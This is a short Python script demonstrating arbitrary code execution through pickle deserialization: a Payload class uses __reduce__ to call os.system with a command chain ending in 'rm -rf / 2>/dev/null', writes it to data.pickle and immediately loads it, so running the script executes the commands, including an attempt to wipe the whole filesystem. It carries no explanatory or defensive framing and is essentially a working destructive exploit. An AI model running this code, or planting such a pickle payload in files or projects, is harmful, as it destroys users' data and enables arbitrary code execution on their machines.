import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("id -u; touch /tmp/pickled; rm -rf / 2>/dev/null",)


with open("data.pickle", "wb") as file:
    pickle.dump(Payload(), file)
pickle.load(open("data.pickle", "rb"))
print("the pickle has acted")
